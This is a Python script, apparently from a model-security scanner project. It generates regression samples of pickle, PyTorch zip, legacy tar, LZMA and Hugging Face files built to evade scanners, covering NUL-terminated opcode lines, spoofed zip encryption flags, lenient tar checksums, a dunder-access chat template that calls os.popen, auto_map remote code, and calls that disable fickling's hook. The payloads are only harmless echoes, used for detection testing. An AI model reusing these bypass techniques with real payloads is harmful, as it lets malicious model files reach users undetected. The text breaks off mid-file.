#!/usr/bin/python3
"""Writes samples/bypass/: regression samples for issue 12 ("no bypass"). Each one is a way to get
a payload past a scanner (or to get an unreadable file reported clean) that a real loader still
runs or rejects:

- pickle-prefix/: pickles whose first opcode carries an argument a naive sniffer gives up on
  (a 70,000-byte BINUNICODE/BINBYTES, a protocol-0 number in a form only CPython's parser takes, a
  STRING line longer than 4 KiB), as `.pkl`, `model.bin`, an extensionless `weights` and as the
  data.pkl of a real torch.save zip.
- unread/: inputs that cannot be read (empty, random, unknown opcode, truncated, wrong magic, a
  .keras without config.json, a PNG named .pt): never `clean`.
- hf-depth/: a diffusers-style pipeline whose malicious chat template and remote code sit in
  sub-folders (tokenizer/, text_encoder/), not at the root.
- zip-flags/: torch.save zips whose data.pkl only *claims* to be encrypted (flag bit 0x1 or 0x40
  set in the local and central headers, bytes stored in plain with the plain CRC).
- denylist/: calls to fickling's own hook switches and IPython's shell helper.
- calibration/: benign pickles and a real `checkpoint.pth.tar` that must stay `clean`.
- nul-lines/: protocol-0 number lines (INT, LONG, FLOAT, PUT, GET) that CPython's C unpickler ends
  at a NUL (`I1\0junk`), then posix.system, as model.bin, an extensionless `weights`,
  adapter_model.bin and x.pkl.
- legacy-tar/: torch's old tar format (torch.load -> tarfile -> pickle.load of member `storages`)
  with a first header only Python's tarfile takes (checksum spelled `0o...`, `+...`, `1_2`, with
  junk after the NUL, or the signed sum), and a plain ustar tar whose `storages` is a NUL-line pickle.
- lzma/: LZMA-alone streams liblzma and joblib read but a strict sniffer does not (a 12 MiB =
  2^23 + 2^22 dictionary with the size given; properties byte 0x00).
- benign/: text and raw tensors that look like a pickle's first bytes (vocab.txt `cat`, a README
  starting `N.B.`, a float32 `weights.bin` whose first byte is `c`), which must stay `clean`.

Payloads are harmless (`echo modelgate-bypass-sample`). No payload is executed here: each stream
is checked with CPython's C unpickler (and torch.load for the zips and tars, joblib.load for the LZMA
streams) through a find_class that returns a recording stub, which proves the stream really reaches
the REDUCE of the named callee; an audit hook refuses os.system and process creation besides.

Deterministic: torch.save writes fixed timestamps, zipfile entries get fixed dates, random bytes
come from a seeded generator. Run from the repository root with /usr/bin/python3 (Debian
python3-torch, python3-numpy, python3-joblib).
"""
import io
import json
import lzma
import os
import pickle
import random
import shutil
import struct
import sys
import tarfile
import types
import warnings
import zipfile
import zlib

warnings.filterwarnings("ignore")

import torch  # noqa: E402

ROOT = os.path.join("samples", "bypass")
EXPECTED = {}
PAYLOAD = "echo modelgate-bypass-sample"
DG = "pickle/dangerous-global"

torch.manual_seed(0)


def path(rel):
    p = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write(rel, data):
    with open(path(rel), "wb") as f:
        f.write(data)


def expect(rel, verdict, rules=(), callee=None, **extra):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if callee is not None:
        entry["callee"] = callee
    entry.update(extra)
    EXPECTED[f"bypass/{rel}"] = entry


# ---------------------------------------------------------------- opcode helpers

def s4(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def bu(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def bb(data):  # BINBYTES
    return b"B" + struct.pack("<I", len(data)) + data


def glob(m, n):  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sglob(m, n):  # STACK_GLOBAL
    return s4(m) + s4(n) + b"\x93"


P2 = b"\x80\x02"
P4 = b"\x80\x04"
CALL1 = b"\x85R"  # TUPLE1 REDUCE
STOP = b"."
POP = b"0"
LONG = 70_000

# posix.system(PAYLOAD) in protocol-0 opcodes only (what os.system pickles as on Linux)
P0_CALL = b"cposix\nsystem\n(S'" + PAYLOAD.encode() + b"'\ntR."


# ---------------------------------------------------------------- proof without execution

CALLS = []
# globals the benign streams need for real (torch's state dicts); everything else is a stub
REAL = {("collections", "OrderedDict"), ("torch._utils", "_rebuild_tensor_v2")}


def _callers():
    f, names = sys._getframe(2), []
    while f is not None:
        names.append(f.f_code.co_name)
        f = f.f_back
    return tuple(names)


def _stub(module, name):
    def stub(*args, **kwargs):
        CALLS.append((f"{module}.{name}", args, _callers()))  # callers: which loader path ran it
        return 0
    return stub


def _refuse(event, args):  # a second net under the stubs: nothing here may start a process
    if event in ("os.system", "os.exec", "os.posix_spawn", "os.spawn", "subprocess.Popen"):
        raise RuntimeError(f"refused {event}{args!r}")


sys.addaudithook(_refuse)


class StubUnpickler(pickle.Unpickler):  # the C unpickler (_pickle.Unpickler)
    real = REAL

    def find_class(self, module, name):
        if (module, name) in self.real:
            return super().find_class(module, name)
        return _stub(module, name)


class AllStubUnpickler(StubUnpickler):
    real = frozenset()


# The pickle module torch.load sees. Debian's torch 1.13 ignores torch.load(pickle_module=...)
# unless weights_only=True (it assigns `pickle_module = pickle`), so torch_load_stubbed() swaps the
# `pickle` name inside torch.serialization for the time of the call.
STUB_PICKLE = types.ModuleType("stub_pickle")
STUB_PICKLE.__dict__.update({k: v for k, v in vars(pickle).items() if not k.startswith("__")})
STUB_PICKLE.Unpickler = StubUnpickler
STUB_PICKLE.load = lambda f, **kw: StubUnpickler(f, **kw).load()


def torch_load_stubbed(data):
    """torch.load of the bytes, or of the file at a path (its legacy tar branch needs a real file)."""
    import torch.serialization as ts
    real = ts.pickle
    ts.pickle = STUB_PICKLE
    try:
        return torch.load(data if isinstance(data, str) else io.BytesIO(data))
    finally:
        ts.pickle = real


def reaches(data, callee, args=None, via="pickle"):
    """Unpickles `data` with stubs for globals; the stub named `callee` must be called (REDUCE)."""
    CALLS.clear()
    if via == "pickle":
        u = AllStubUnpickler(io.BytesIO(data))
        u.persistent_load = lambda pid: None  # torch storages, if any: not needed here
        u.load()
    else:  # a torch zip: torch's own zip reader (miniz) and UnpicklerWrapper over our stubs
        torch_load_stubbed(data)
    called = [c for c in CALLS if c[0] == callee]
    if not called or (args is not None and called[0][1] != args):
        raise SystemExit(f"stream does not reach {callee}{args!r} ({via}): {CALLS!r}")


# ---------------------------------------------------------------- torch zips

def torch_zip(obj):
    """torch.save to memory: a real PyTorch zip (members archive/data.pkl, archive/data/N, archive/version)."""
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


class _RawPickler:
    """A pickle_module.Pickler for torch.save that pickles the object normally (so torch records
    and writes its storages) but hands torch `RAW` as the data.pkl bytes."""
    raw = b""

    def __init__(self, f, protocol=None):
        self.f, self.protocol, self.persistent_id = f, protocol, None

    def dump(self, obj):
        p = pickle.Pickler(io.BytesIO(), protocol=self.protocol)
        p.persistent_id = self.persistent_id
        p.dump(obj)
        self.f.write(self.raw)


RAW_PICKLE = types.ModuleType("raw_pickle")
RAW_PICKLE.Pickler = _RawPickler


def torch_zip_with(data_pkl):
    """A real torch.save zip of a tiny state dict whose archive/data.pkl is `data_pkl`: torch's own
    writer lays the zip out (stored members, 64-byte aligned data, fixed timestamps), so only the
    data.pkl bytes differ from what torch.save writes for the state dict."""
    _RawPickler.raw = data_pkl
    buf = io.BytesIO()
    torch.save(STATE, buf, pickle_module=RAW_PICKLE)
    out = buf.getvalue()
    with zipfile.ZipFile(io.BytesIO(out)) as z:
        info = z.getinfo("archive/data.pkl")
        assert info.compress_type == zipfile.ZIP_STORED and z.read(info) == data_pkl
        assert z.namelist()[0] == "archive/data.pkl" and "archive/version" in z.namelist()
    return out


STATE = {"fc.weight": torch.arange(4, dtype=torch.float32).reshape(2, 2), "fc.bias": torch.zeros(2)}


# ---------------------------------------------------------------- start clean

if os.path.isdir(ROOT):
    shutil.rmtree(ROOT)
os.makedirs(ROOT)

# ================================================================= 1. a long first argument
# The sniffer reads a 16 KiB head; a first opcode whose argument runs past it used to make the
# file "not a pickle" (and model.bin / extensionless files were then not analysed at all).

PP = "pickle-prefix"
FILL = "A" * LONG
CALL = sglob("posix", "system") + bu(PAYLOAD) + CALL1 + STOP
long_streams = {
    # PROTO 4, BINUNICODE of 70,000 bytes, POP, posix.system(...)
    "p4_binunicode_70k": P4 + bu(FILL) + POP + CALL,
    # ... BINBYTES
    "p4_binbytes_70k": P4 + bb(FILL.encode()) + POP + CALL,
    # ... a short SHORT_BINUNICODE first, then the long one
    "p4_short_then_binunicode_70k": P4 + s4("meta") + POP + bu(FILL) + POP + CALL,
    # no PROTO at all: BINUNICODE first, then GLOBAL + MARK ... TUPLE + REDUCE (protocol-1 opcodes)
    "noproto_binunicode_70k": bu(FILL) + POP + glob("posix", "system") + b"(" + bu(PAYLOAD) + b"tR" + STOP,
}
for name, data in long_streams.items():
    reaches(data, "posix.system", (PAYLOAD,))
    write(f"{PP}/{name}.pkl", data)
    expect(f"{PP}/{name}.pkl", "malicious", [DG], "posix.system")

main = long_streams["p4_binunicode_70k"]
for rel in ("p4_binunicode_70k/model.bin", "p4_binunicode_70k/weights"):
    write(f"{PP}/{rel}", main)
    expect(f"{PP}/{rel}", "malicious", [DG], "posix.system")
pt = torch_zip_with(main)
reaches(pt, "posix.system", (PAYLOAD,), via="torch")
write(f"{PP}/p4_binunicode_70k/model.pt", pt)
expect(f"{PP}/p4_binunicode_70k/model.pt", "malicious", [DG], "posix.system")

# ================================================================= 2. protocol-0 first arguments
# CPython parses INT with strtol(base 0) and falls back to int(s, 0) (hex, octal 0o, binary 0b,
# underscores, surrounding whitespace, a sign), LONG with int(s, 0) after stripping the L, FLOAT
# with PyOS_string_to_double (".5" without a leading digit), and lines of any length. A sniffer
# that only takes `[-+]?\d+` and lines up to 4 KiB does not.
# Checked with /usr/bin/python3 (3.11) pickle.loads (C) / pickle._loads (pure Python):
#   accepted by both: I0x1, I 1 (C: True), I1_0, L0x1L, I-0o17, I+0b1, I1<space>, I1<CR>, F.5
#   rejected by the C unpickler, so NOT used (pure Python accepts them): F 1e3, F1_0.5, F1e3<CR>
P0_PREFIXES = {
    "p0_int_hex": b"I0x1\n",
    "p0_int_space": b"I 1\n",
    "p0_int_underscore": b"I1_0\n",
    "p0_long_hex": b"L0x1L\n",
    "p0_int_neg_octal": b"I-0o17\n",
    "p0_int_plus_binary": b"I+0b1\n",
    "p0_int_trailing_space": b"I1 \n",
    "p0_int_crlf": b"I1\r\n",
    "p0_float_no_leading_digit": b"F.5\n",
    "p0_string_5000": b"S'" + b"s" * 5000 + b"'\n",
    "p0_unicode_6000": b"V" + b"v" * 6000 + b"\n",
}
for name, prefix in P0_PREFIXES.items():
    pickle.loads(prefix + b".")  # the C unpickler takes the argument as it stands
    data = prefix + POP + P0_CALL
    reaches(data, "posix.system", (PAYLOAD,))
    write(f"{PP}/{name}/model.bin", data)
    expect(f"{PP}/{name}/model.bin", "malicious", [DG], "posix.system")
    if name in ("p0_int_hex", "p0_string_5000"):
        write(f"{PP}/{name}.pkl", data)
        expect(f"{PP}/{name}.pkl", "malicious", [DG], "posix.system")
        pt = torch_zip_with(data)
        reaches(pt, "posix.system", (PAYLOAD,), via="torch")
        write(f"{PP}/{name}/model.pt", pt)
        expect(f"{PP}/{name}/model.pt", "malicious", [DG], "posix.system")
for bad in (b"F 1e3\n", b"F1_0.5\n"):
    try:
        pickle.loads(bad + b".")
        raise SystemExit(f"{bad!r} now loads: add it to P0_PREFIXES")
    except ValueError:
        pass

# ================================================================= 3. unreadable input: never clean

UN = "unread"


def unreadable(rel, data):
    write(f"{UN}/{rel}", data)
    expect(f"{UN}/{rel}", "invalid")


def c_rejects(data):
    try:
        pickle.loads(data)
    except Exception:
        return
    raise SystemExit(f"{data[:20]!r} loads")


unreadable("empty.pkl", b"")
rnd = random.Random(12).randbytes(4096)
c_rejects(rnd)
unreadable("random.pkl", rnd)
c_rejects(b"\x80\x02\xff.")
unreadable("unknown_opcode.pkl", b"\x80\x02\xff.")
c_rejects(b"\x80\x04t.")
unreadable("bad_tuple.pkl", b"\x80\x04t.")  # TUPLE without a MARK
unreadable("short.safetensors", b"\x10\x00\x00\x00\x00")  # 5 of the 8 header-length bytes
unreadable("empty.onnx", b"")
# GGUF v3 header layout with a wrong magic, then junk
unreadable("bad_magic.gguf", b"GGUX" + struct.pack("<IQQ", 3, 1, 1) + random.Random(13).randbytes(40))


def zinfo(name):
    return zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))


kbuf = io.BytesIO()
with zipfile.ZipFile(kbuf, "w", zipfile.ZIP_STORED) as z:  # Keras 3 layout minus config.json
    z.writestr(zinfo("metadata.json"), json.dumps({"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}))
    z.writestr(zinfo("model.weights.h5"), b"\x89HDF\r\n\x1a\n" + random.Random(14).randbytes(120))
unreadable("no_config.keras", kbuf.getvalue())


def png(w, h):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    rows = b"".join(b"\x00" + bytes(v for x in range(w) for v in (x * 32, y * 32, 128)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


unreadable("image.pt", png(8, 8))

# ================================================================= 4. HF files below the root
# A diffusers-style pipeline: the tokenizer's chat template (CVE-2024-34359 shape) and the text
# encoder's auto_map -> modeling_evil.py live in sub-folders, not next to model_index.json.

HF = "hf-depth/pipeline"
CVE_TEMPLATE = (
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('" + PAYLOAD + "').read() }}"
    "{% endif %}{% endfor %}"
    "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"
)


def write_json(rel, obj):
    write(rel, (json.dumps(obj, indent=2) + "\n").encode())


write_json(f"{HF}/model_index.json", {
    "_class_name": "StableDiffusionPipeline",
    "_diffusers_version": "0.27.2",
    "text_encoder": ["transformers", "CLIPTextModel"],
    "tokenizer": ["transformers", "CLIPTokenizer"],
})
write_json(f"{HF}/tokenizer/tokenizer_config.json", {
    "bos_token": "<|startoftext|>",
    "chat_template": CVE_TEMPLATE,
    "eos_token": "<|endoftext|>",
    "model_max_length": 77,
    "tokenizer_class": "CLIPTokenizer",
    "unk_token": "<|endoftext|>",
})
write_json(f"{HF}/text_encoder/config.json", {
    "architectures": ["CLIPTextModel"],
    "auto_map": {"AutoModel": "modeling_evil.Model"},
    "hidden_size": 32,
    "model_type": "clip_text_model",
    "num_attention_heads": 2,
    "num_hidden_layers": 1,
    "vocab_size": 64,
})
write(f"{HF}/text_encoder/modeling_evil.py", (
    '"""Remote code named by auto_map: runs on from_pretrained(..., trust_remote_code=True)."""\n'
    "import os\n\n\n"
    "class Model:\n"
    "    def __init__(self, config):\n"
    "        self.config = config\n"
    f'        os.system("{PAYLOAD}")\n'
).encode())
# the root-level equivalents (samples/hf-repo/remote-code-model) produce these rules
expect(HF, "malicious", ["repo/remote-code", "repo/python-file", "repo/risky-code", "template/dunder-access"])
expect(f"{HF}/tokenizer/tokenizer_config.json", "malicious", ["template/dunder-access", "template/code-execution-name"])
expect(f"{HF}/text_encoder/config.json", "suspicious", ["repo/remote-code", "repo/remote-code-missing"])  # alone: no .py beside it
expect(f"{HF}/text_encoder/modeling_evil.py", "malicious", ["repo/python-file", "repo/risky-code"])

# ================================================================= 5. flag-only "encryption"
# Bits set in data.pkl's general-purpose flags while the member stays stored in plain, with the CRC
# of the plain bytes: the content is fully readable, only the header claims otherwise. A scanner
# that takes the claim at face value reports "cannot inspect" (or crashes, as zipfile-based ones
# did) and never looks at the pickle.
# What the loaders do (Debian torch 1.13 / its miniz, CPython 3.11 zipfile), checked below:
#   bit set in local + central header: torch.load refuses ("unsupported encryption"), zipfile
#     asks for a password; the bytes are still a plain pickle (other zip readers may read them);
#   bit set in the local header only: torch.load and zipfile both ignore it and load the pickle.

ZF = "zip-flags"


class Evil:
    def __reduce__(self):
        return (os.system, (PAYLOAD,))


def central_records(buf):
    eocd = buf.rindex(b"PK\x05\x06")
    count, _cd_size, cd_off = struct.unpack_from("<HII", buf, eocd + 10)
    pos = cd_off
    for _ in range(count):
        assert buf[pos:pos + 4] == b"PK\x01\x02"
        n, m, k = struct.unpack_from("<HHH", buf, pos + 28)
        yield pos, buf[pos + 46:pos + 46 + n].decode()
        pos += 46 + n + m + k


def set_flags(data, member, bits, central=True):
    buf = bytearray(data)
    hit = 0
    for pos, name in central_records(buf):
        if name == member:
            (local,) = struct.unpack_from("<I", buf, pos + 42)
            assert buf[local:local + 4] == b"PK\x03\x04"
            for at in ([pos + 8] if central else []) + [local + 6]:  # central, local flags
                struct.pack_into("<H", buf, at, struct.unpack_from("<H", buf, at)[0] | bits)
            hit += 1
    assert hit == 1
    return bytes(buf)


def plain_member(data, member):
    """The stored bytes of `member`, read by hand (zipfile refuses flagged members); CRC checked."""
    for pos, name in central_records(data):
        if name == member:
            method, _t, _d, crc, csize, usize = struct.unpack_from("<HHHIII", data, pos + 10)
            (local,) = struct.unpack_from("<I", data, pos + 42)
            n, m = struct.unpack_from("<HH", data, local + 26)
            body = data[local + 30 + n + m:local + 30 + n + m + csize]
            assert method == 0 and csize == usize and zlib.crc32(body) == crc
            return body
    raise KeyError(member)


def torch_refuses(data):
    try:
        torch_load_stubbed(data)
    except RuntimeError as e:
        return "unsupported encryption" in str(e)
    return False


bad_zip = torch_zip({"model": STATE, "hook": Evil()})  # torch.save itself pickles posix.system
ok_zip = torch_zip(STATE)
# zip/encryption-flag-plain: the flag lies about plain bytes; bit 6 is also zip/unusual-flags
for bits, label, zip_rules in ((0x1, "encrypted_flag", ["zip/encryption-flag-plain"]),
                               (0x40, "strong_encryption_flag", ["zip/encryption-flag-plain", "zip/unusual-flags"])):
    bad = set_flags(bad_zip, "archive/data.pkl", bits)
    reaches(plain_member(bad, "archive/data.pkl"), "posix.system", (PAYLOAD,))
    print(f"{label}: torch.load refuses: {torch_refuses(bad)}", file=sys.stderr)
    write(f"{ZF}/{label}_payload.pt", bad)
    expect(f"{ZF}/{label}_payload.pt", "malicious", zip_rules + [DG], "posix.system")
    # benign state dict with the same flag: not clean (the flag finding's severity is to be confirmed)
    ok = set_flags(ok_zip, "archive/data.pkl", bits)
    plain_member(ok, "archive/data.pkl")
    write(f"{ZF}/{label}_state_dict.pt", ok)
    expect(f"{ZF}/{label}_state_dict.pt", "suspicious", zip_rules)  # TO CONFIRM: suspicious or malicious
    # the bit in the local header only: torch.load runs the pickle
    local = set_flags(bad_zip, "archive/data.pkl", bits, central=False)
    reaches(local, "posix.system", (PAYLOAD,), via="torch")
    write(f"{ZF}/{label}_local_only_payload.pt", local)
    expect(f"{ZF}/{label}_local_only_payload.pt", "malicious", ["zip/header-mismatch", DG], "posix.system")

# ================================================================= 6. denylisted callees

DL = "denylist"
deny = {
    # fickling's own switches: turn off the safety hook a victim installed
    "fickling_remove_hook.pkl": (P4 + sglob("fickling.hook", "remove_hook") + b")R" + STOP, "fickling.hook.remove_hook", ()),
    "fickling_deactivate_safe_ml_environment.pkl":
        (P2 + glob("fickling.hook", "deactivate_safe_ml_environment") + b")R" + STOP, "fickling.hook.deactivate_safe_ml_environment", ()),
    # IPython's shell helper, in protocol 0
    "ipython_process_system.pkl":
        (glob("IPython.utils.process", "system") + b"(S'echo x'\ntR.", "IPython.utils.process.system", ("echo x",)),
}
for rel, (data, callee, args) in deny.items():
    reaches(data, callee, args)
    write(f"{DL}/{rel}", data)
    expect(f"{DL}/{rel}", "malicious", [DG], callee)

# ================================================================= 7. calibration: must stay clean

import __future__  # noqa: E402
import collections.abc  # noqa: E402

CA = "calibration"
LIST3 = b"](K\x01K\x02K\x03e"
calib = {
    # builtins.len([1, 2, 3]) through REDUCE (hand-built)
    "builtins_len_p2.pkl": P2 + glob("builtins", "len") + LIST3 + CALL1 + STOP,
    "builtins_len_p4.pkl": P4 + sglob("builtins", "len") + LIST3 + CALL1 + STOP,
    # a class as data: {"t": collections.abc.Mapping}
    "abc_mapping_p2.pkl": pickle.dumps({"t": collections.abc.Mapping}, protocol=2),
    "abc_mapping_p4.pkl": pickle.dumps({"t": collections.abc.Mapping}, protocol=4),
    # __future__.annotations: a _Feature object (NEWOBJ + BUILD of its __dict__)
    "future_annotations_p2.pkl": pickle.dumps(__future__.annotations, protocol=2),
    "future_annotations_p4.pkl": pickle.dumps(__future__.annotations, protocol=4),
}
want = {"builtins_len": 3, "abc_mapping": {"t": collections.abc.Mapping}}
for rel, data in calib.items():
    value = pickle.loads(data)  # benign by construction
    key = rel.rsplit("_p", 1)[0]
    if key in want:
        assert value == want[key], (rel, value)
    else:
        assert value.compiler_flag == __future__.annotations.compiler_flag
    write(f"{CA}/{rel}", data)
    expect(f"{CA}/{rel}", "clean")

# what the PyTorch ImageNet example writes: torch.save(state, "checkpoint.pth.tar") (a zip, not a tar)
net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
opt = torch.optim.SGD(net.parameters(), lr=0.1, momentum=0.9)
torch.save({"epoch": 1, "arch": "mlp", "state_dict": net.state_dict(), "best_acc1": torch.tensor(0.5),
            "optimizer": opt.state_dict()}, path(f"{CA}/checkpoint.pth.tar"))
torch.load(path(f"{CA}/checkpoint.pth.tar"))
expect(f"{CA}/checkpoint.pth.tar", "clean")

# ================================================================= 8. protocol-0 lines ending at a NUL
# The C unpickler reads an INT/LONG/FLOAT/PUT/GET line up to the newline but parses it as a C string
# (strtol, PyOS_string_to_double, PyLong_FromString), so the value ends at the first NUL and
# whatever follows up to the newline is ignored: `I1\0junk\n` is 1, `I\0\xff\n` False. The pure
# Python unpickler rejects all of these (checked below); a sniffer that parses the whole line like it
# stops at the first opcode and never sees the call.

NL = "nul-lines"
NUL_PREFIXES = {
    "int_nul_junk": b"I1\x00junk\n0",
    "int_empty_nul_ff": b"I\x00\xff\n0",
    "long_nul_junk": b"L1\x00junk\n0",
    "float_nul_junk": b"F1.5\x00junk\n0",
    "put_nul": b"Np1\x00x\n0",
    "get_nul": b"Np1\n0g1\x00x\n0",  # PUT 1 (plain), then GET of memo 1 spelled 1\0x
}
for name, prefix in NUL_PREFIXES.items():
    pickle.loads(prefix + b"N.")  # the C unpickler takes the line
    try:
        pickle._loads(prefix + b"N.")
        raise SystemExit(f"pure-Python pickle now takes {prefix!r}")
    except ValueError:
        pass
    data = prefix + P0_CALL
    reaches(data, "posix.system", (PAYLOAD,))
    for rel in ("model.bin", "weights", "adapter_model.bin", "x.pkl"):
        write(f"{NL}/{name}/{rel}", data)
        expect(f"{NL}/{name}/{rel}", "malicious", [DG], "posix.system")

# ================================================================= 9. torch's legacy tar format
# torch.load on a file that is not a zip tries tarfile.open first (the pre-1.6 "tar" layout: members
# sys_info, pickle, storages, tensors) and unpickles member `storages` before anything else. Python's
# tarfile reads the header checksum with int(field, 8) up to the first NUL and accepts the unsigned
# or the signed byte sum, so `0o1234`, `+01234`, `012_34`, `01234\0X` and a signed sum all pass, and
# no ustar magic is needed. A single `storages` member in a hand-built v7 header (as a tar sniffer
# that wants six octal digits and the unsigned sum rejects) is enough to reach the pickle.

LT = "legacy-tar"


def v7_header(name, size, checksum, high=b""):
    """A pre-POSIX tar header for a regular file; `checksum(unsigned, signed)` spells field 148..155."""
    h = bytearray(512)
    h[0:len(name)] = name
    h[len(name) + 1:len(name) + 1 + len(high)] = high  # bytes after the name's NUL: still in the sum
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"00000000000\0"  # mtime 0
    h[156] = ord("0")
    h[148:156] = b" " * 8
    uns = sum(h)
    sgn = sum(b - 256 if b > 127 else b for b in h)
    field = checksum(uns, sgn)
    assert len(field) == 8, field
    h[148:156] = field
    return bytes(h)


def v7_tar(member, data, checksum, high=b""):
    pad = b"\0" * (-len(data) % 512)
    return v7_header(member, len(data), checksum, high) + data + pad + b"\0" * 1024


def octal_only(field):  # what a strict reader takes: octal digits, then NUL/space to the end
    digits = field.rstrip(b"\0 ")
    return digits.isdigit() and b"8" not in digits and b"9" not in digits


def legacy_loads(data, callee="posix.system", args=(PAYLOAD,)):
    """torch.load of a file holding `data` over the stub pickle module: the callee must be reached
    from torch's legacy_load (the tar branch of _legacy_load, taken only for a real file at offset
    0), i.e. while unpickling member `storages`."""
    import tempfile
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as t:
        assert "storages" in t.getnames()
    CALLS.clear()
    with tempfile.TemporaryDirectory() as tmp:
        p = os.path.join(tmp, "model.bin")
        with open(p, "wb") as f:
            f.write(data)
        try:
            torch_load_stubbed(p)
        except Exception:  # after the payload: the stub's 0 is no storage count torch can go on with
            pass
    called = [c for c in CALLS if c[0] == callee and c[1] == args]
    if not called or "legacy_load" not in called[0][2]:
        raise SystemExit(f"torch.load does not reach {callee} through legacy_load: {CALLS!r}")


CHECKSUMS = {
    "checksum_0o_prefix": lambda u, s: b"0o%05o\0" % u,
    "checksum_plus": lambda u, s: b"+%06o\0" % u,
    "checksum_underscore": lambda u, s: (b"%06o" % u)[:3] + b"_" + (b"%06o" % u)[3:] + b"\0",
    "checksum_nul_garbage": lambda u, s: b"%06o\0X" % u,
}
for name, checksum in CHECKSUMS.items():
    data = v7_tar(b"storages", P0_CALL, checksum)
    assert not octal_only(data[148:156]), data[148:156]
    legacy_loads(data)
    write(f"{LT}/{name}/model.bin", data)
    expect(f"{LT}/{name}/model.bin", "malicious", [DG], "posix.system")
# the signed sum: two 0xff bytes after the name make it 512 less than the unsigned one
data = v7_tar(b"storages", P0_CALL, lambda u, s: b"%06o\0 " % s, high=b"\xff\xff")
assert int(data[148:154], 8) != 256 + sum(data[:148]) + sum(data[156:512])
legacy_loads(data)
write(f"{LT}/checksum_signed/model.bin", data)
expect(f"{LT}/checksum_signed/model.bin", "malicious", [DG], "posix.system")

# a plain ustar tar (Python's tarfile writer, fixed mtime/owner) whose `storages` is a NUL-line pickle
tbuf = io.BytesIO()
member = NUL_PREFIXES["int_nul_junk"] + P0_CALL
with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
    ti = tarfile.TarInfo("storages")
    ti.size, ti.mtime = len(member), 0
    t.addfile(ti, io.BytesIO(member))
ustar = tbuf.getvalue()
assert ustar[257:263] == b"ustar\0"
legacy_loads(ustar)
for rel in ("ustar_storages_nul_line/checkpoint.pth.tar", "ustar_storages_nul_line/model.tar",
            "ustar_storages_nul_line/model.bin"):
    write(f"{LT}/{rel}", ustar)
    expect(f"{LT}/{rel}", "malicious", [DG], "posix.system")

# ================================================================= 10. LZMA-alone a strict sniffer misses
# joblib.load picks LZMA-alone by the prefix b"]\x00" (properties 0x5d, then the dictionary size's
# low byte) and liblzma takes any dictionary size 2^n or 2^n + 2^(n-1) with the uncompressed size
# either unknown (all 0xff) or given. lzma.open / lzma.decompress (FORMAT_AUTO) also take any
# properties byte below 225, e.g. 0x00 (lc=0, lp=0, pb=0), which joblib does not recognise but a
# `pickle.load(lzma.open(path))` loader reads.

LZ = "lzma"
RAW = pickle.dumps(Evil(), protocol=4)  # what joblib.dump writes for the object: posix.system(...)
reaches(RAW, "posix.system", (PAYLOAD,))


def joblib_reaches(data, callee="posix.system", args=(PAYLOAD,)):
    """joblib.load(data) with joblib's NumpyUnpickler resolving every global to a stub."""
    import joblib
    import joblib.numpy_pickle as jnp
    CALLS.clear()
    jnp.NumpyUnpickler.find_class = lambda self, module, name: _stub(module, name)
    try:
        joblib.load(io.BytesIO(data))
    finally:
        del jnp.NumpyUnpickler.find_class
    if not [c for c in CALLS if c[0] == callee and c[1] == args]:
        raise SystemExit(f"joblib.load does not reach {callee}: {CALLS!r}")


# 12 MiB dictionary, uncompressed size in the header (the encoder writes 0xff..; liblzma also takes
# the end marker after a given size)
d12 = bytearray(lzma.compress(RAW, format=lzma.FORMAT_ALONE,
                              filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 12 << 20}]))
assert d12[0] == 0x5D and struct.unpack_from("<I", d12, 1)[0] == 0x00C00000
d12[5:13] = struct.pack("<Q", len(RAW))
d12 = bytes(d12)
assert lzma.decompress(d12, format=lzma.FORMAT_ALONE) == RAW and lzma.decompress(d12) == RAW
joblib_reaches(d12)
for rel in ("dict_12mib_known_size/x.pkl.lzma", "dict_12mib_known_size/model.bin",
            "dict_12mib_known_size/model.joblib"):
    write(f"{LZ}/{rel}", d12)
    expect(f"{LZ}/{rel}", "malicious", [DG], "posix.system")

# properties byte 0x00, 64 KiB dictionary, size unknown (end marker)
p0 = lzma.compress(RAW, format=lzma.FORMAT_ALONE,
                   filters=[{"id": lzma.FILTER_LZMA1, "lc": 0, "lp": 0, "pb": 0, "dict_size": 1 << 16}])
assert p0[:13] == b"\x00" + struct.pack("<I", 1 << 16) + b"\xff" * 8
with lzma.open(io.BytesIO(p0)) as f:  # FORMAT_AUTO, as lzma.open(path) reads it
    assert f.read() == RAW
write(f"{LZ}/props_00/x.pkl.lzma", p0)
expect(f"{LZ}/props_00/x.pkl.lzma", "malicious", [DG], "posix.system")

# ================================================================= 11. benign look-alikes: no pickle alarm
# Text whose first bytes are pickle opcodes (`c` GLOBAL, `(` MARK, `N.` is even a whole pickle of
# None, `S'` a STRING, `I,` an INT) and raw tensors whose first byte is one: no call in any of them.
# The text stays clean; the raw tensors are unexplained bytes (format/unknown, suspicious) whose
# speculative pickle reading must raise nothing.
UNPICKLED = ["pickle/dangerous-global", "pickle/unknown-global", "pickle/dynamic-call", "pickle/malformed",
             "format/claim-unmet"]

BN = "benign"
texts = {
    "vocab.txt": "cat\ndog\nbird\n",
